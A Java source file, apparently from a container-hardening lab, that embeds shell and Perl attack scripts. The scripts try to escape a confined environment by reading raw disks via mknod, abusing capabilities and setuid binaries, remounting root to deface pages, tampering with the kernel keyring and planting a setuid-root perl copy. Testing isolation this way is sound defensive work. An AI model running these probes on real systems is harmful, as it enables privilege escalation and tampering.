@@ -1,0 +1,212 @@
+package onekernel.labs.hardening;
+
+/**
+ * What the robber tries, for the shop's own shell: a busybox and a Perl are at hand. Before each
+ * way stands its name; whatever succeeded is put back, so that an attack may be repeated.
+ */
+final class Attacks {
+  /** Printed where an attack got at something that has no words of its own. */
+  static final String DONE = "DONE NONCE";
+
+  private Attacks() {}
+
+  /** Reads the superblock's magic number off the VM's disk; {@code NUMBERS} is its device. */
+  static String onTheDisk(String numbers) {
+    return """
+    reads() { perl -e 'open D, "<", shift and seek D, 1080, 0 and read D, $m, 2; exit !($m eq "\\x53\\xef")' "$1"; }
+    echo '#by reading the device'
+    find / \\( -path /proc -o -path /sys \\) -prune -o -type b -print 2>/dev/null |
+      while read -r disk; do reads $disk && echo DONE NONCE; done
+    echo '#by making the device anew, with mknod'
+    for folder in /tmp /dev /run /orders; do
+      mknod $folder/NONCE b $(echo NUMBERS | tr : " ") || continue
+      reads $folder/NONCE && echo DONE NONCE
+      rm -f $folder/NONCE
+      break
+    done
+    echo '#by mounting it'
+    mount -t ext4 /dev/vda /mnt && echo DONE NONCE && umount /mnt
+    true\
+    """
+        .replace("NUMBERS", numbers);
+  }
+
+  /** Reads the accountant's ledger. */
+  static String onTheLedger() {
+    return """
+    it=/orders/ledger
+    was=$(stat -c '%u:%g %a' $it)
+    echo '#although the mode forbids it (DAC_OVERRIDE)'
+    cat $it
+    echo '#by changing its mode (FOWNER)'
+    chmod 644 $it && cat $it
+    chmod ${was#* } $it
+    echo '#by taking it over (CHOWN)'
+    chown 0 $it && cat $it
+    chown ${was% *} $it
+    echo '#by becoming user 4321 (SETUID)'
+    perl -e '$( = $) = 4321; $< = $> = 4321; open L, "<", "/orders/ledger" and print <L>'
+    FIND | while read -r program; do
+      echo "#through $program, which makes a root of everybody"
+      $program -pe 1 $it
+      $program -e '$< = $>; $< = $> = 4321; open L, "<", "/orders/ledger" and print <L>'
+    done
+    true\
+    """
+        .replace("FIND", SET_USER_ID);
+  }
+
+  /** In the VM: whose the ledger is, and what it says. */
+  static final String LEDGER_AFTERMATH =
+      """
+      stat -c %u /srv/shop/orders/ledger
+      cat /srv/shop/orders/ledger\
+      """;
+
+  /** Reads root's file in the shop. */
+  static String climbing() {
+    return """
+    echo '#by reading it'
+    cat /safe
+    FIND | while read -r program; do
+      echo "#through $program"
+      $program -pe 1 /safe
+    done
+    true\
+    """
+        .replace("FIND", PROGRAMS);
+  }
+
+  private static final String FILES = "find / \\( -path /proc -o -path /sys \\) -prune -o -type f ";
+
+  private static final String SET_USER_ID = FILES + "-perm -4000 -print 2>/dev/null";
+
+  /** Those that aren't scripts: a power may be written onto any of them. */
+  private static final String PROGRAMS = FILES + "-perm -1 -size +99k -print 2>/dev/null";
+
+  /** Changes the page, the programs or anything else that the shop is made of. */
+  static String leavingSomething() {
+    return """
+    PATH=/bin:/usr/bin
+    add() { echo "#$1: $2"; (: >>$2) 2>/dev/null && echo DONE NONCE; }
+    put() { echo "#$1: $2"; (: >$2 && rm $2) 2>/dev/null && echo DONE NONCE; }
+    all() {
+      for file in /www/index.html /www/cgi-bin/order /bin/shop; do add "$1" $file; done
+      for folder in /www /www/cgi-bin /bin /etc; do put "$1" $folder/NONCE; done
+    }
+    all 'by writing'
+    modes() { stat -c '%a %n' /www /www/* /www/cgi-bin/*; }
+    before=$(modes)
+    chmod u+w /www /www/* /www/cgi-bin/*
+    [ "$before" = "$(modes)" ] || all 'after a chmod'
+    echo "$before" | while read -r mode file; do chmod $mode $file; done
+    cp /www/index.html /www/NONCE && echo '#by putting another page in its place' &&
+      mv -f /www/NONCE /www/index.html && echo DONE NONCE
+    mount -o remount,rw / && all 'after a remount'
+    FIND | while read -r program; do
+      echo "#through $program: /www/index.html"
+      $program -e 'open F, ">>", "/www/index.html" and print "DONE NONCE\\n"'
+      $program -e '$ENV{PATH} = "/bin"; $< = $>; system "mount", "-o", "remount,rw", "/"'
+      echo "#through $program, after a remount"
+      $program -e 'open F, ">>", "/www/index.html" and print "DONE NONCE\\n"'
+    done
+    true\
+    """
+        .replace("FIND", SET_USER_ID);
+  }
+
+  /** Reads the key of this name off the kernel's ring of root, and puts another one there. */
+  static String onTheKeys(String name) {
+    return """
+    echo '#by reading it'
+    perl -e '
+      sub key { syscall 250, @_ }
+      $kind = "user"; $name = "NAME"; $value = " " x 99;
+      key(8, -4, -3);
+      $id = key(10, -4, $kind, $name, 0);
+      $id = syscall 249, $kind, $name, 0, -4 if $id < 0;
+      if ($id < 0 and open K, "<", "/proc/keys") { /^(\\w+) .* user +$name: / and $id = hex $1 for <K> }
+      $length = $id < 0 ? -1 : key(11, $id, $value, 99);
+      print substr($value, 0, $length), "\\n" if $length > 0;
+      $nothing = "";
+      $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and print "#by writing over it\\nDONE NONCE\\n";
+      $gift = "gift-NONCE"; $value = "gift";
+      syscall 248, $kind, $gift, $value, length $value, -4;
+    '
+    echo '#by a call that was refused'
+    perl -e 'for (333, 425) { syscall $_, 0, 0, 0, 0, 0, 0; $! == 1 or $! == 38 or print "DONE NONCE\\n" }'
+    true\
+    """
+        .replace("NAME", name);
+  }
+
+  /** In the VM: whether the robber's key is on root's ring, from which it is taken off again. */
+  static final String KEYS_AFTERMATH =
+      """
+      perl -e '
+        $kind = "user"; $name = "gift-NONCE";
+        $id = syscall 250, 10, -4, $kind, $name, 0;
+        exit if $id < 0;
+        print "gift";
+        syscall 250, 9, $id, -4;
+      '\
+      """;
+
+  /**
+   * Reads what is root's and the accountant's, also as whoever inside is one of them outside, and
+   * leaves a program that makes its owner of whoever starts it.
+   */
+  static String asRoot() {
+    return """
+    echo "#id $(id -u)"
+    cat /orders/key /orders/ledger
+    perl -e '
+      open M, "<", "/proc/self/uid_map";
+      for (<M>) {
+        ($in, $out, $count) = split;
+        for $who (0, 4321) {
+          $is = $in + $who - $out;
+          next if $who < $out or $who >= $out + $count or $is == 0;
+          next if fork and wait;
+          $( = $) = $is; $< = $> = $is;
+          for ("/orders/key", "/orders/ledger") {
+            open F, "<", $_ and print <F>;
+          }
+          exit;
+        }
+      }
+    '
+    cp /bin/perl /orders/gift-NONCE && chmod 4755 /orders/gift-NONCE
+    true\
+    """;
+  }
+
+  /** In the VM: who owns the gift, who is whoever starts it, and the names that these have. */
+  static final String GIFT_AFTERMATH =
+      """
+      gift=/srv/shop/orders/gift-NONCE
+      owner=$(stat -c %u $gift) || exit 0
+      echo "owner $owner $(getent passwd $owner | cut -d: -f1)"
+      echo "starts $(/usr/bin/setpriv --reuid 65534 --regid 65534 --clear-groups $gift -e 'print $>')"
+      rm -f $gift\
+      """;
+
+  /** Reads all three tills. */
+  static String onTheMarket() {
+    return """
+    for till in shop/till baker/till bank; do
+      echo "#$till"
+      cat /market/$till
+    done
+    true\
+    """;
+  }
+
+  /** In the VM: SELinux's mode, what it wrote down of this visit, and the labels of the tills. */
+  static final String MARKET_AFTERMATH =
+      """
+      echo "mode $(cat /sys/fs/selinux/enforce)"
+      for till in shop/till baker/till bank; do echo "label $(/usr/bin/stat -c %C /srv/market/$till)"; done
+      dmesg | sed -n '/robber NONCE/,$p' | grep avc:\
+      """;
+}
